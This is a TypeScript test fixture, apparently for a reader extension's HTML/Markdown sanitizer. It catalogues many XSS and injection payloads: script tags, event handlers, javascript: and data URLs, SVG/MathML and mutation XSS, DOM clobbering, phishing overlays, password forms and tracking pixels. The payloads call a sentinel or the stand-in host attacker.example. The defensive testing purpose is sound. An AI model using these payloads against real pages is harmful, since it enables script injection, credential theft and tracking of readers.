// Attack vectors as data: each is a fragment a stranger can put into a mirrored file (Markdown source,
// raw HTML in it, or the HTML of a Pages post). Each one, should it ever execute or load, fires a
// sentinel naming it: it calls `__xss('ID')` (the tests install that function) or requests
// `https://attacker.example/hit/ID` (the attacker's server, which logs every request). Nothing here
// may ever fire in the reader.

export interface Sentinel {
  id: string;
  /** A JavaScript expression that reports the vector as executed. */
  js: string;
  /** An address on the attacker's server that reports the vector as loaded. */
  url: string;
}

export type VectorCategory =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'other-scheme'
  | 'data-url'
  | 'svg'
  | 'mathml'
  | 'meta-refresh'
  | 'form'
  | 'frame'
  | 'css'
  | 'clobbering'
  | 'mutation-xss'
  | 'markdown'
  | 'malformed'
  | 'tracking'
  | 'metadata';

export interface AttackVector {
  id: string;
  category: VectorCategory;
  /** How the payload is written in the file: HTML (raw HTML in the Markdown) or Markdown syntax. */
  syntax: 'html' | 'markdown';
  payload: string;
}

export const ATTACKER_HOST = 'attacker.example';
export const SENTINEL_FUNCTION = '__xss';

export function sentinelFor(id: string): Sentinel {
  return { id, js: `${SENTINEL_FUNCTION}('${id}')`, url: `https://${ATTACKER_HOST}/hit/${id}` };
}

type Payload = (s: Sentinel) => string;

const base64 = (text: string): string => Buffer.from(text, 'utf8').toString('base64');
/** Every character as a decimal character reference (`&#106;&#97;…`). */
const decimalRefs = (text: string): string => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
/** Every character as a zero-padded hex reference without the closing semicolon. */
const paddedHexRefs = (text: string): string => [...text].map((c) => `&#x00${c.codePointAt(0)!.toString(16)}`).join('');

/** The element ids and globals the popup and reader pages look up (src/ui/*.html, src/ui/**), for clobbering. */
export const UI_ELEMENT_IDS = [
  'content', 'reader-content', 'reader-view', 'list-view', 'reader-scroller', 'reader-controls', 'back', 'open-in-tab',
  'current-tab', 'save-current', 'read-current', 'export', 'print', 'related', 'related-list', 'previous', 'next', 'to-library',
];

const SCRIPT: Payload[] = [
  (s) => `<script>${s.js}</script>`,
  (s) => `<SCRIPT>${s.js}</SCRIPT>`,
  (s) => `<script src="${s.url}.js"></script>`,
  (s) => `<script type="module">${s.js}</script>`,
  (s) => `<script/x>${s.js}</script>`,
  (s) => `<script\n>${s.js}</script\n>`,
  (s) => `<scr<script>ipt>${s.js}</scr</script>ipt>`,
  (s) => `<<script>${s.js};//<</script>`,
  (s) => `<script defer async>${s.js}</script>`,
  (s) => `<script>eval(atob('${base64(s.js)}'))</script>`,
  (s) => `<script>\\u005f\\u005fxss('${s.id}')</script>`,
  (s) => `<script for=window event=onload>${s.js}</script>`,
  (s) => `<script src="data:text/javascript,${encodeURIComponent(s.js)}"></script>`,
  (s) => `<template><script>${s.js}</script></template><div>模板</div>`,
  (s) => `<script type="text/javascript">document.write('<img src=x onerror=${s.js}>')</script>`,
  (s) => `<script>setTimeout("${s.js}")</script>`,
];

const EVENT_HANDLER: Payload[] = [
  (s) => `<img src=x onerror=${s.js}>`,
  (s) => `<img src="https://github.githubassets.com/favicon.ico" onload="${s.js}">`,
  (s) => `<IMG SRC=x ONERROR="${s.js}">`,
  (s) => `<img src=x oNeRrOr  =  ${s.js}>`,
  (s) => `<img src=x onerror="&#95;&#95;xss('${s.id}')">`,
  (s) => `<img/src=x/onerror=${s.js}>`,
  (s) => `<image src=x onerror=${s.js}>`,
  (s) => `<body onload=${s.js}>`,
  (s) => `<body onpageshow="${s.js}">`,
  (s) => `<svg onload=${s.js}>`,
  (s) => `<details open ontoggle="${s.js}"><summary>摘要</summary>内容</details>`,
  (s) => `<input autofocus onfocus="${s.js}">`,
  (s) => `<select autofocus onfocus="${s.js}"><option>一</option></select>`,
  (s) => `<textarea autofocus onfocus="${s.js}">文字</textarea>`,
  (s) => `<video><source onerror="${s.js}"></video>`,
  (s) => `<audio src=x onerror="${s.js}"></audio>`,
  (s) => `<video poster="${s.url}" onerror="${s.js}"></video>`,
  (s) => `<marquee onstart="${s.js}">滚动</marquee>`,
  (s) => `<div onmouseover="${s.js}">悬停这里</div>`,
  (s) => `<a href="#x" onclick="${s.js}">点击</a>`,
  (s) => `<p onpointerenter="${s.js}">指针</p>`,
  (s) => `<span onanimationstart="${s.js}" style="animation-name:spin">动画</span>`,
  (s) => `<div tabindex=0 autofocus onfocus="${s.js}">焦点</div>`,
  (s) => `<x onclick=${s.js}>未知元素</x>`,
  (s) => `<table><tr><td onmouseover="${s.js}">表格</td></tr></table>`,
  (s) => `<h2 onbeforecopy="${s.js}" contenteditable>标题</h2>`,
  (s) => `<input type=image src=x onerror="${s.js}">`,
  (s) => `<style onload="${s.js}"></style>`,
  (s) => `<link rel=stylesheet href="${s.url}.css" onload="${s.js}">`,
  (s) => `<img src="x" onerror="javascript:${s.js}">`,
  (s) => `<div onwheel="${s.js}" onscroll="${s.js}" oncopy="${s.js}">滚轮</div>`,
  (s) => `<frameset onload=${s.js}>`,
  (s) => `<img src=x onerror\u000c=${s.js}>`,
  (s) => `<b onfocusin="${s.js}" tabindex=1>粗体</b>`,
];

const JAVASCRIPT_URL: Payload[] = [
  (s) => `<a href="javascript:${s.js}">链接</a>`,
  (s) => `<a href="JaVaScRiPt:${s.js}">链接</a>`,
  (s) => `<a href="  javascript:${s.js}">链接</a>`,
  (s) => `<a href="java\tscript:${s.js}">链接</a>`,
  (s) => `<a href="java&#x09;script:${s.js}">链接</a>`,
  (s) => `<a href="${decimalRefs('javascript:')}${s.js}">链接</a>`,
  (s) => `<a href="${paddedHexRefs('javascript')}:${s.js}">链接</a>`,
  (s) => `<a href="javascript&colon;${s.js}">链接</a>`,
  (s) => `<a href="jav&#x0A;ascript:${s.js}">链接</a>`,
  (s) => `<a href="&#x01;javascript:${s.js}">链接</a>`,
  (s) => `<a href="javascript://%0a${encodeURIComponent(s.js)}">链接</a>`,
  (s) => `<a href=javascript:${s.js}>无引号</a>`,
  (s) => `<iframe src="javascript:${s.js}"></iframe>`,
  (s) => `<area href="javascript:${s.js}">`,
  (s) => `<img src="javascript:${s.js}">`,
  (s) => `<base href="javascript:${s.js}//"><a href="/x">相对链接</a>`,
  (s) => `<a href=" &#14;javascript:${s.js}">链接</a>`,
  (s) => `<object data="javascript:${s.js}"></object>`,
  (s) => `<embed src="javascript:${s.js}">`,
  (s) => `<blockquote cite="javascript:${s.js}">引用</blockquote>`,
  (s) => `<q cite="javascript:${s.js}">短引</q><del cite="javascript:${s.js}">删除</del>`,
  (s) => `<img src="https://example.org/a.png" longdesc="javascript:${s.js}">`,
  (s) => `<a href="jav&Tab;ascript:${s.js}">链接</a>`,
  (s) => `<a href="javascript&#58;${s.js}">链接</a>`,
];

const OTHER_SCHEME: Payload[] = [
  (s) => `<a href="vbscript:MsgBox(&quot;${s.id}&quot;)">VB</a>`,
  (s) => `<a href="VBScript:Execute(&quot;${s.id}&quot;)">VB</a>`,
  (s) => `<img src="vbscript:msgbox(&quot;${s.id}&quot;)">`,
  (s) => `<a href="livescript:${s.js}">LiveScript</a>`,
  (s) => `<a href="mocha:${s.js}">Mocha</a>`,
  (s) => `<a href="file:///etc/passwd?${s.id}">本地文件</a>`,
  (s) => `<a href="chrome-extension://abcdefghijklmnop/reader.html?${s.id}">扩展</a>`,
  (s) => `<a href="blob:https://attacker.example/${s.id}">Blob</a>`,
];

const DATA_URL: Payload[] = [
  (s) => `<a href="data:text/html,<script>${s.js}</script>">数据</a>`,
  (s) => `<a href="data:text/html;base64,${base64(`<script>${s.js}</script>`)}">数据</a>`,
  (s) => `<iframe src="data:text/html,<script>parent.${s.js}</script>"></iframe>`,
  (s) => `<object data="data:text/html;base64,${base64(`<script>parent.${s.js}</script>`)}"></object>`,
  (s) => `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${s.js}"/>`)}">`,
  (s) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${s.js}'/>">`,
  (s) => `<a href="DATA:text/html,<script>${s.js}</script>">数据</a>`,
  (s) => `<a href=" data:text/html,<script>${s.js}</script>">数据</a>`,
  (s) => `<link rel=stylesheet href="data:text/css,@import '${s.url}';">`,
  (s) => `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onerror="${s.js}" alt="像素">`,
];

const SVG: Payload[] = [
  (s) => `<svg><script>${s.js}</script></svg>`,
  (s) => `<svg><script href="${s.url}.js"></script></svg>`,
  (s) => `<svg><a xlink:href="javascript:${s.js}"><text x="20" y="20">点我</text></a></svg>`,
  (s) => `<svg><foreignObject><iframe srcdoc="<script>parent.${s.js}</script>"></iframe></foreignObject></svg>`,
  (s) => `<svg><a><animate attributeName="href" values="javascript:${s.js}"/><text x="20" y="20">动画链接</text></a></svg>`,
  (s) => `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="x" onerror="${s.js}"/></svg>`)}#x"/></svg>`,
  (s) => `<svg><image href="${s.url}.png"/></svg>`,
  (s) => `<svg><style>@import '${s.url}.css';</style></svg>`,
  (s) => `<svg><set attributeName="onload" to="${s.js}"/></svg>`,
  (s) => `<svg><desc><img src=x onerror="${s.js}"></desc></svg>`,
  (s) => `<svg><title><img src=x onerror="${s.js}"></title></svg>`,
  (s) => `<svg><animate onbegin="${s.js}" attributeName="x" dur="1s"/></svg>`,
  (s) => `<svg><filter><feImage href="${s.url}.png"/></filter></svg>`,
  (s) => `<svg/onload=${s.js}//`,
];

const MATHML: Payload[] = [
  (s) => `<math><maction actiontype="statusline" xlink:href="javascript:${s.js}">点击<mtext>x</mtext></maction></math>`,
  (s) => `<math href="javascript:${s.js}"><mi>x</mi></math>`,
  (s) => `<math><mi xlink:href="javascript:${s.js}">y</mi></math>`,
  (s) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${s.js}"></annotation-xml></math>`,
  (s) => `<math><style><img src=x onerror="${s.js}"></style></math>`,
  (s) => `<math><mtext><table><mglyph><style><img src=x onerror="${s.js}"></style></mglyph></table></mtext></math>`,
  (s) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${s.js}>"></style></mtext></svg></mglyph></h1></mtext></math>`,
  (s) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${s.js}>`,
  (s) => `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${s.js}</script></annotation-xml></semantics></math>`,
];

const META_REFRESH: Payload[] = [
  (s) => `<meta http-equiv="refresh" content="0;url=javascript:${s.js}">`,
  (s) => `<meta http-equiv=refresh content="0; url=${s.url}">`,
  (s) => `<meta http-equiv="Refresh" content="0;URL='data:text/html;base64,${base64(`<script>${s.js}</script>`)}'">`,
  (s) => `<meta http-equiv="set-cookie" content="tracked=${s.id}">`,
  (s) => `<meta charset="utf-7">+ADw-script+AD4-${s.js}+ADw-/script+AD4-`,
  (s) => `<base href="${s.url}/">`,
  (s) => `<link rel=prefetch href="${s.url}">`,
  (s) => `<link rel=preload as=image href="${s.url}.png">`,
  (s) => `<link rel=dns-prefetch href="//${s.id}.${ATTACKER_HOST}">`,
  (s) => `<meta name="referrer" content="unsafe-url"><a href="${s.url}">来源泄漏</a>`,
];

const FORM: Payload[] = [
  (s) => `<form action="${s.url}"><input name=q value=1><button>提交</button></form>`,
  (s) => `<form><button formaction="javascript:${s.js}">按钮</button></form>`,
  (s) => `<input type=submit formaction="${s.url}" value="提交">`,
  (s) => `<form method=post action="${s.url}"><label>密码 <input type=password name=p></label><input type=submit></form>`,
  (s) => `<form action="javascript:${s.js}"><input type=submit value="登录"></form>`,
  (s) => `<isindex action="javascript:${s.js}" type=image src=x onerror="${s.js}">`,
  (s) => `<button form=f formaction="javascript:${s.js}">外部表单按钮</button><form id=f></form>`,
  (s) => `<form><input type=image formaction="${s.url}" src=x></form>`,
];

const FRAME: Payload[] = [
  (s) => `<iframe src="${s.url}"></iframe>`,
  (s) => `<iframe srcdoc="<script>parent.${s.js}</script>"></iframe>`,
  (s) => `<iframe srcdoc="&lt;img src=x onerror=parent.${s.js}&gt;"></iframe>`,
  (s) => `<object data="${s.url}"></object>`,
  (s) => `<embed src="${s.url}">`,
  (s) => `<applet code="${s.url}.class"></applet>`,
  (s) => `<frameset><frame src="${s.url}"></frameset>`,
  (s) => `<portal src="${s.url}"></portal>`,
  (s) => `<object type="text/x-scriptlet" data="${s.url}.sct"></object>`,
  () => `<iframe src="/" name="${SENTINEL_FUNCTION}" sandbox="allow-scripts allow-same-origin"></iframe>`,
];

const CSS: Payload[] = [
  (s) => `<style>@import '${s.url}.css';</style>`,
  (s) => `<style>body{background:url(${s.url}.png)}</style>`,
  (s) => `<p style="background:url(${s.url}.png)">背景</p>`,
  (s) => `<div style="behavior:url(${s.url}.htc)">行为</div>`,
  (s) => `<div style="width:expression(${s.js})">表达式</div>`,
  () => `<div style="position:fixed;inset:0;z-index:99999;background:white"><a href="https://attacker.example/phish">请重新登录</a></div>`,
  (s) => `<link rel=stylesheet href="${s.url}.css">`,
  (s) => `<div style="-moz-binding:url(${s.url}.xml#x)">绑定</div>`,
  (s) => `<style>@font-face{font-family:x;src:url(${s.url}.woff)}p{font-family:x}</style>`,
  (s) => `<p style="background-image:image-set('${s.url}.png' 1x)">图像集</p>`,
  (s) => `<table background="${s.url}.png"><tr><td>背景表格</td></tr></table>`,
  (s) => `<div style="content:url(${s.url}.png)">内容</div>`,
  (s) => `<style>input[value^=a]{background:url(${s.url}?a)}</style>`,
  (s) => `<img src="https://example.org/a.png" srcset="${s.url}.png 1x, ${s.url}.png 2x">`,
  (s) => `<picture><source srcset="${s.url}.webp"><img src="https://example.org/b.png"></picture>`,
  (s) => `<a href="https://example.org/" ping="${s.url}">ping</a>`,
  (s) => `<img src="https://example.org/c.png" dynsrc="${s.url}.avi" lowsrc="${s.url}.png">`,
  () => `<p class="toast article-title" hidden>伪装成界面的元素</p>`,
];

const CLOBBERING: Payload[] = [
  ...UI_ELEMENT_IDS.slice(0, 6).map((id): Payload => () => `<a id="${id}" href="#">覆盖 #${id}</a>`),
  (s) => `<img name="getElementById" src="https://example.org/d.png" alt="${s.id}">`,
  () => `<form name="location"><input name="href" value="https://attacker.example/"></form>`,
  (s) => `<a id="chrome"></a><a id="chrome" name="runtime" href="${s.url}">chrome.runtime</a>`,
  (s) => `<a id="browser" name="runtime" href="${s.url}">browser.runtime</a>`,
  () => `<img name="cookie" src="https://example.org/e.png"><img name="body">`,
  () => `<form id="attributes"><input name="attributes"><input name="nodeName"><input name="removeAttribute"></form>`,
  () => `<a id="__proto__" href="#">原型</a><a id="CSS" name="escape">CSS</a>`,
  () => `<iframe name="${SENTINEL_FUNCTION}"></iframe><embed name="createElement"><object id="defaultView"></object>`,
  () => `<div data-action="delete" data-format="html" data-id="x" data-i18n="extensionName">数据属性</div>`,
  () => `<span accesskey="s" tabindex="0" autofocus contenteditable>可编辑</span>`,
  () => `<input form="add-site" name="site-input" id="site-input" value="https://attacker.example/">`,
  () => `<a id="${UI_ELEMENT_IDS[6]}" name="${UI_ELEMENT_IDS[7]}" href="#">覆盖按钮</a>`,
];

const MUTATION_XSS: Payload[] = [
  (s) => `<noscript><p title="</noscript><img src=x onerror=${s.js}>"></noscript>`,
  (s) => `<svg></p><style><a id="</style><img src=1 onerror=${s.js}>">`,
  (s) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${s.js}&gt;">`,
  (s) => `<listing>&lt;img src=x onerror=${s.js}&gt;</listing>`,
  (s) => `<xmp><p title="</xmp><img src=x onerror=${s.js}>"></xmp>`,
  (s) => `<noembed><p title="</noembed><img src=x onerror=${s.js}>"></noembed>`,
  (s) => `<noframes><p title="</noframes><img src=x onerror=${s.js}>"></noframes>`,
  (s) => `<iframe><p title="</iframe><img src=x onerror=${s.js}>"></iframe>`,
  (s) => `<textarea><p title="</textarea><img src=x onerror=${s.js}>"></textarea>`,
  (s) => `<title><p title="</title><img src=x onerror=${s.js}>"></title>`,
  (s) => `<style><p title="</style><img src=x onerror=${s.js}>"></style>`,
  (s) => `<p title="&lt;/p&gt;&lt;img src=x onerror=${s.js}&gt;">实体</p>`,
  (s) => `<!--><img src=x onerror=${s.js}>-->`,
  (s) => `<!-- --!><img src=x onerror=${s.js}>-->`,
  (s) => `<?xml-stylesheet x?><img src=x onerror=${s.js}>`,
  (s) => `<![CDATA[><img src=x onerror=${s.js}>]]>`,
  (s) => `<svg><![CDATA[><img src=x onerror=${s.js}>]]></svg>`,
  (s) => `<table><tr><td><svg><desc><table></table><style><img src=x onerror=${s.js}></style></desc></svg></td></tr></table>`,
  (s) => `<select><template><style><img src=x onerror=${s.js}></style></template></select>`,
  (s) => `<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src onerror=${s.js}>"></a></textarea></mtext></svg></mglyph></mi></math>`,
  (s) => `<img src="x" alt="\`\`onerror=${s.js}">`,
  (s) => `<a href="\`"><img src=x onerror=${s.js}></a>`,
  (s) => `<div><template shadowrootmode="open"><img src=x onerror=${s.js}></template></div>`,
  (s) => `<svg><p><style><img src=x onerror=${s.js}></style></p></svg>`,
];

const MARKDOWN: Payload[] = [
  (s) => `[点击](javascript:${s.js})`,
  (s) => `[点击](JAVASCRIPT:${s.js})`,
  (s) => `[点击](javascript&#58;${s.js})`,
  (s) => `[点击](  javascript:${s.js}  )`,
  (s) => `[点击](<javascript:${s.js}>)`,
  (s) => `[点击](data:text/html;base64,${base64(`<script>${s.js}</script>`)})`,
  () => `[点击](vbscript:msgbox)`,
  (s) => `![图片](javascript:${s.js})`,
  (s) => `![图片](x" onerror="${s.js})`,
  (s) => `[链接](https://example.org/" onmouseover="${s.js})`,
  (s) => `<javascript:${s.js}>`,
  (s) => `[引用链接][evil${s.id}]\n\n[evil${s.id}]: javascript:${s.js}`,
  (s) => `<a href="javascript:${s.js}">Markdown 里的原始 HTML</a>`,
  (s) => `\`<script>${s.js}</script>\``,
  (s) => `\`\`\`html\n<script>${s.js}</script>\n<img src=x onerror=${s.js}>\n\`\`\``,
  (s) => `[![图](https://example.org/f.png)](javascript:${s.js})`,
  (s) => `[点击](%6Aavascript:${s.js})`,
  (s) => `| 甲 | 乙 |\n| --- | --- |\n| <img src=x onerror=${s.js}> | <a href="javascript:${s.js}">丙</a> |`,
  (s) => `> <script>${s.js}</script>\n> 引用里的脚本`,
  (s) => `## <img src=x onerror=${s.js}>小标题`,
  (s) => `[标题注入](https://example.org/ "x\\" onmouseover=\\"${s.js}")`,
  (s) => `<div>\n\n[块内链接](javascript:${s.js})\n\n</div>`,
  (s) => `<details><summary>展开</summary>\n\n<img src=x onerror=${s.js}>\n\n</details>`,
  (s) => `*[强调](javascript:${s.js})* 与 **<img src=x onerror=${s.js}>**`,
  (s) => `[点击](java\nscript:${s.js})`,
  (s) => `![图](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${s.js}"/>`)})`,
];

const MALFORMED: Payload[] = [
  (s) => `<img src=x onerror=${s.js}`,
  (s) => `<a href="javascript:${s.js}"`,
  (s) => `<<img src=x onerror=${s.js}>>`,
  (s) => `<img """><script>${s.js}</script>">`,
  (s) => `<img src="x"onerror="${s.js}">`,
  (s) => `<div/onmouseover=${s.js}>斜杠分隔</div>`,
  (s) => `</p><script>${s.js}</script><p>`,
  (s) => `<p <script>${s.js}</script>>`,
  (s) => `<img\u000csrc=x\u000conerror=${s.js}>`,
  (s) => `<ahref="javascript:${s.js}">缺少空格</a>`,
  (s) => `<a href="javascript:${s.js}"<b>x</b></a>`,
  (s) => `<body/onload=${s.js}>`,
  (s) => `<img src=&#x22;x&#x22; onerror=${s.js}>`,
  (s) => `</script><script>${s.js}</script>`,
  (s) => `<textarea></textarea><script>${s.js}</script>`,
  (s) => `<img src=x onerror="${s.js}"<!--`,
  (s) => `<a href="https://example.org/" title="未闭合 onmouseover=${s.js}>未闭合的属性</a>`,
  (s) => `<div><span><b><i>未闭合的嵌套<img src=x onerror=${s.js}>`,
  (s) => `</div></div></article></main><script>${s.js}</script><main><article><div>`,
  (s) => `<plaintext><script>${s.js}</script>`,
];

const TRACKING: Payload[] = [
  (s) => `<img src="${s.url}.gif" width="1" height="1">`,
  (s) => `<img src="${s.url}.gif" width="0px" height="0px"/>`,
  (s) => `<img src="${s.url}.gif" style="display:none">`,
  (s) => `<img src="${s.url}.gif" style="width:1px;height:1px">`,
  (s) => `<img src="${s.url}.gif" hidden>`,
  (s) => `<img src="${s.url}.gif" width="0.5" height="0.5">`,
  (s) => `<img src="${s.url}.gif" style="visibility:hidden;position:absolute">`,
  (s) => `<img src="${s.url}.gif" width="1" alt="">`,
];

const METADATA: Payload[] = [
  (s) => `原文地址（需翻墙访问）：javascript:${s.js}`,
  (s) => `本文转自大纪元，浏览原文：<a href="javascript:${s.js}">原文链接</a>`,
  (s) => `原文：<a href="data:text/html,<script>${s.js}</script>">原文</a>`,
  (s) => `相关新闻：\n\n<ul><li><a href="javascript:${s.js}">相关一</a></li><li><a href="vbscript:x">相关二</a></li></ul>`,
  (s) => `<img src="javascript:${s.js}" data-canonical-src="javascript:${s.js}" alt="图">`,
];

const GROUPS: Array<[VectorCategory, 'html' | 'markdown', Payload[]]> = [
  ['script', 'html', SCRIPT],
  ['event-handler', 'html', EVENT_HANDLER],
  ['javascript-url', 'html', JAVASCRIPT_URL],
  ['other-scheme', 'html', OTHER_SCHEME],
  ['data-url', 'html', DATA_URL],
  ['svg', 'html', SVG],
  ['mathml', 'html', MATHML],
  ['meta-refresh', 'html', META_REFRESH],
  ['form', 'html', FORM],
  ['frame', 'html', FRAME],
  ['css', 'html', CSS],
  ['clobbering', 'html', CLOBBERING],
  ['mutation-xss', 'html', MUTATION_XSS],
  ['markdown', 'markdown', MARKDOWN],
  ['malformed', 'html', MALFORMED],
  ['tracking', 'html', TRACKING],
  ['metadata', 'markdown', METADATA],
];

/** Every vector, with its id (`category-NN`) filled into its sentinel. */
export const VECTORS: readonly AttackVector[] = GROUPS.flatMap(([category, syntax, payloads]) =>
  payloads.map((payload, i) => {
    const id = `${category}-${String(i + 1).padStart(2, '0')}`;
    return { id, category, syntax, payload: payload(sentinelFor(id)) };
  }),
);

/** The paragraph written before each vector: it must reach the reader, proving the vector was in the body. */
export function probeText(id: string): string {
  return `检测点${id}开始。`;
}
